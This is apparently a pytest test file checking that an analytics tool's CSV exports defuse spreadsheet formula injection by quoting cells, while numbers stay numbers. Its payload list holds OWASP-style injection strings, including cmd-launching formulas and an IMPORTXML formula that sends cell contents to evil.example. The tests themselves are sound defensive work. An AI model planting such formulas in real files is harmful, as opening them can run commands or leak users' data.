"""Every CSV the workbook writes is safe to open in a spreadsheet (OWASP CSV injection), numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from sqlalchemy.engine import Engine

from analytics.metrics import content_ranking
from analytics.reports.display import table_bundle
from analytics.reports.export import export_tables
from analytics.reports.safe_csv import csv_text, neutralise_cell, write_csv
from tiny_business import Business

HYPERLINK = '=HYPERLINK("http://evil.example","x")'
# The OWASP CSV injection page's payloads, plus the separator and quote tricks it warns about.
OWASP_PAYLOADS = [
    HYPERLINK,
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
]


def _cells(text: str) -> list[list[str]]:
    """CSV text read back the way a spreadsheet splits it into cells."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_formula_cell_gets_a_leading_single_quote(payload: str) -> None:
    assert neutralise_cell(payload) == "'" + payload
    header, row = _cells(csv_text(pd.DataFrame({"title": [payload]})))
    assert header == ["title"]
    assert row == ["'" + payload]  # one cell, the payload intact behind the quote: no separator escaped


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    frame = pd.DataFrame(
        {
            "amount": [-12.5, 3.0, math.nan],  # a float column
            "count": [-3, 0, 7],  # an integer column
            # object columns as export_tables keeps them: numbers and text side by side, integers next to None
            "mixed": [-12.5, "=1+1", None],
            "value": pd.Series([293277, -5, None], dtype=object),
            # numbers as people write them have no letters, references or operators: a spreadsheet reads a number
            "text": ["-3", "+7.7 %", "-1,234.50"],
            "words": ["Intro - part 1", "+1.2 pts", "-2+3"],
        }
    )
    header, *rows = _cells(csv_text(frame))
    assert header == ["amount", "count", "mixed", "value", "text", "words"]
    assert rows == [
        ["-12.5", "-3", "-12.5", "293277", "-3", "Intro - part 1"],
        ["3.0", "0", "'=1+1", "-5", "+7.7 %", "'+1.2 pts"],
        ["", "7", "", "", "-1,234.50", "'-2+3"],
    ]


def test_string_and_categorical_columns_and_column_names_are_neutralised() -> None:
    frame = pd.DataFrame(
        {
            "@name": pd.Series(["@SUM(1+1)", "Ann"], dtype="string"),
            "kind": pd.Categorical(["=A1", "post"]),
            "day": pd.to_datetime(["2025-03-01", "2025-03-02"]),
            "flag": [True, False],
        }
    )
    assert _cells(csv_text(frame)) == [
        ["'@name", "kind", "day", "flag"],
        ["'@SUM(1+1)", "'=A1", "2025-03-01", "True"],
        ["Ann", "post", "2025-03-02", "False"],
    ]
    assert list(frame.columns) == ["@name", "kind", "day", "flag"]  # the caller's frame is not changed


def test_write_csv_keeps_line_breaks_inside_a_cell(tmp_path: Path) -> None:
    path = write_csv(pd.DataFrame({"title": ["two\nlines", "-x"], "n": [1, -2]}), tmp_path / "out" / "t.csv")
    with path.open(encoding="utf-8", newline="") as f:
        assert list(csv.reader(f)) == [["title", "n"], ["two\nlines", "1"], ["'-x", "-2"]]


def test_top_content_csv_of_a_report_neutralises_a_member_written_post_title(engine: Engine, tmp_path: Path) -> None:
    """A member titles a forum post ``=HYPERLINK(…)``; it reaches the report's top content table and its CSV.

    m1's post p1 gets one view (m2) and one reaction (m3) in March: score = 1·1 viewer + 2·1 reaction = 3.
    """
    b = Business(engine, account_id="biz_csv")
    for m in ("m1", "m2", "m3"):
        b.member(m, "2025-01-01")
    b.post("p1", "m1", "2025-03-01", title=HYPERLINK)
    b.event("m2", "post_view", "2025-03-02 09:00", object_id="p1")
    b.event("m3", "reaction", "2025-03-02 09:00", object_id="p1")
    b.save()
    top = content_ranking(engine, "biz_csv", start="2025-03-01", end="2025-03-31", top=10)
    cell = nbformat.v4.new_code_cell(outputs=[nbformat.v4.new_output("display_data", table_bundle("top_content", top))])
    export_tables(nbformat.v4.new_notebook(cells=[cell]), tmp_path)

    rows = list(csv.DictReader(io.StringIO((tmp_path / "top_content.csv").read_text(encoding="utf-8"), newline="")))
    assert [(r["content_id"], r["title"], r["score"]) for r in rows] == [("p1", "'" + HYPERLINK, "3.0")]
    # the JSON export keeps the exact title (it is data, not a spreadsheet)
    exact = json.loads((tmp_path / "top_content.json").read_text(encoding="utf-8"))
    assert [r["title"] for r in exact["table"]["data"]] == [HYPERLINK]
